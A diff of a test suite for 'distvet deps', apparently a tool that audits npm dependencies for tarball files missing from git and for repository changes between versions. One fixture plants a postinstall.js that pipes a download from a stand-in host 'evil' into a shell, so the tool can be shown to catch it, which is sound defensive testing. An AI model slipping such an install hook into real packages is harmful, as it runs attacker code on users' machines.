@@ -40,12 +40,15 @@ beforeAll(async () => {
   mirror = join(dir, "mirror");
   mkdirSync(mirror, { recursive: true });
   for (const [name, v] of [["alpha", "1.0.0"], ["alpha", "1.1.0"], ["beta", "2.0.0"], ["gamma", "0.1.0"]] as const) {
-    const { bytes } = await publishNpm(server, dir, mirror, { name, version: v, git: files(name, v), repoName: `${name}-${v}`, doc: { repository: `github:acme/${name}-${v}` } });
+    const { bytes } = await publishNpm(server, dir, mirror, { name, version: v, git: files(name, v), repoName: name, doc: { repository: `github:acme/${name}` } });
     integ.set(`${name}@${v}`, sri(bytes));
   }
   // delta@1.0.0 ships a file that is not in git.
   const { bytes } = await publishNpm(server, dir, mirror, { name: "delta", version: "1.0.0", git: files("delta", "1.0.0"), tarball: { ...files("delta", "1.0.0"), "postinstall.js": "require('child_process').execSync('curl evil | sh')\n" } });
   integ.set("delta@1.0.0", sri(bytes));
+  // omega 1.1.0 points at another repository than 1.0.0 did (and matches it perfectly).
+  await publishNpm(server, dir, mirror, { name: "omega", version: "1.0.0", git: files("omega", "1.0.0") });
+  await publishNpm(server, dir, mirror, { name: "omega", version: "1.1.0", git: files("omega", "1.1.0"), repoName: "omega-evil", owner: "mallory" });
 });
 afterAll(async () => server.stop());
 
@@ -116,12 +119,12 @@ describe("distvet deps", () => {
     );
     const r = await runDeps({ lockfile: next, old, jobs: 2, ...opts() });
     expect(r.rows.map((x) => `${x.name}@${x.version} ${x.status} ${x.exit}`)).toEqual(["alpha@1.1.0 audited 0", "gamma@0.1.0 audited 0", "missing@9.9.9 error 2"]);
-    expect(r.rows[0]!.resolved).toMatch(/^acme\/alpha-1\.1\.0@[0-9a-f]{12}$/);
+    expect(r.rows[0]!.resolved).toMatch(/^acme\/alpha@[0-9a-f]{12}$/);
     expect(r.rows[2]!.error).toContain("has no missing@9.9.9");
     expect(r.exit).toBe(2);
     const text = renderDeps(r, "text");
     expect(text).toContain("missing@9.9.9: the npm registry has no missing@9.9.9");
-    expect(text).toMatch(/alpha\s+1\.1\.0\s+acme\/alpha-1\.1\.0@[0-9a-f]{12}\s+0\/0\/0\/\d+\s+0/);
+    expect(text).toMatch(/alpha\s+1\.1\.0\s+acme\/alpha@[0-9a-f]{12}\s+0\/0\/0\/\d+\s+0/);
   });
 
   it("a package with a tarball-only script fails the check; SARIF has one run per package", async () => {
@@ -133,6 +136,21 @@ describe("distvet deps", () => {
     const sarif = JSON.parse(renderDeps(r, "sarif"));
     expect(sarif.runs.map((x: { automationDetails: { id: string } }) => x.automationDetails.id)).toEqual(["distvet-deps/delta@1.0.0", "distvet-deps/gamma@0.1.0"]);
     expect(sarif.runs[0].results.some((x: { locations: Array<{ physicalLocation: { artifactLocation: { uri: string } } }> }) => x.locations[0]!.physicalLocation.artifactLocation.uri === "postinstall.js")).toBe(true);
+  });
+
+  it("a bump whose new version names another repository is flagged medium", async () => {
+    const old = join(dir, "old-omega.json");
+    const next = join(dir, "new-omega.json");
+    writeFileSync(old, lockV3([{ name: "omega", version: "1.0.0" }, { name: "alpha", version: "1.0.0" }]));
+    writeFileSync(next, lockV3([{ name: "omega", version: "1.1.0" }, { name: "alpha", version: "1.1.0" }]));
+    const r = await runDeps({ lockfile: next, old, ...opts() });
+    const omega = r.rows.find((x) => x.name === "omega")!;
+    expect(omega.result!.findings.filter((f) => f.rule === "registry-repository-changed").map((f) => f.message)).toEqual([
+      "omega 1.0.0 named https://github.com/acme/omega.git; 1.1.0 names https://github.com/mallory/omega-evil.git, and was audited against that repository",
+    ]);
+    expect(omega.exit).toBe(1);
+    // Same repository, new version: nothing to say.
+    expect(r.rows.find((x) => x.name === "alpha")!.result!.findings.filter((f) => f.rule === "registry-repository-changed")).toEqual([]);
   });
 
   it("a lockfile integrity that differs from the registry's tarball is that package's error", async () => {
